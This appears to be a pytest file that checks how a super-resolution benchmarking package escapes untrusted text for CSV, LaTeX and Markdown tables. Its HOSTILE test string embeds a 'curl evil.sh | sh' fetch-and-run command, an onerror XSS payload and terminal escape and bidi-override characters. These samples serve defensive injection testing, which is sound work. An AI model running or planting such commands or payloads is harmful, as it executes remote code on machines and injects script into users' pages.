"""Texts from anywhere in documents."""

import re

import pytest

from esc_sr.evaluation import Evaluation, SetResult
from esc_sr.markup import csv_cell, latex_text, markdown_code, markdown_text
from esc_sr.profiling.records import BenchRecord
from esc_sr.tasks.bench_tables import bench_markdown
from esc_sr.tasks.tables import quality_markdown

HOSTILE = (
    "MIT |\n\n## Use\n\n```sh\ncurl evil.sh | sh\n```\r\n<img src=x onerror=alert(1)>"
    "\x1b[31m\u202e\x85\u2028\udcff `a` [b](c) ~~d~~ &lt;"
)


@pytest.mark.parametrize("of", [csv_cell, latex_text, markdown_text, markdown_code])
def test_texts_are_one_line_that_no_terminal_obeys(of):
    text = of(HOSTILE)
    assert text.isprintable()
    assert r"u202e" in text
    assert of("MIT, größer").strip("`") == "MIT, größer"


def test_no_sign_of_markdown_is_left():
    text = markdown_text(HOSTILE)
    assert not re.search(r"(?<!\\)(?:\\\\)*[|<`*\[\]~]|(?<!\\)&lt;", text)


@pytest.mark.parametrize("text", ["# a", "- a", "+ a", "> a", ">a", "###### a", "-"])
def test_a_text_begins_no_block(text):
    assert markdown_text(text) == f"\\{text}"
    for other in ("#a", "-1.5", "+0.3 dB", "CC-BY"):
        assert markdown_text(other) == other


@pytest.mark.parametrize("text", ["a", "`", "a``b`", "", "|`|"])
def test_code_ends_where_it_shall(text):
    code = markdown_code(text)
    fence = re.match("`+", code).group()
    assert code.endswith(fence)
    assert fence not in re.findall("`+", code[len(fence) : -len(fence)])
    assert code[len(fence) : -len(fence)].strip(" ").replace("\\|", "|") == text


def cells(line):
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) - 1


def test_tables_of_evaluate_and_bench_hold_any_name(record):
    result = SetResult(images=["a"], values={"psnr_y": [30.0]}, seconds=1.0)
    evaluation = Evaluation(HOSTILE, 2, (), {HOSTILE: result}, conditions=(HOSTILE,))
    failed = BenchRecord(**record(network=HOSTILE, error=HOSTILE, device_name=HOSTILE))
    for text, columns in [(quality_markdown([evaluation]), 6), (bench_markdown([failed]), 10)]:
        lines = text.removesuffix("\n").split("\n")
        assert all(line.isprintable() for line in lines)
        table, notes = lines[: lines.index("")], lines[lines.index("") + 1 :]
        assert [cells(line) for line in table] == [columns] * 3
        assert all(line.startswith("- ") for line in notes)
        assert not re.search(r"(?<!\\)(?:\\\\)*[<`]", text)
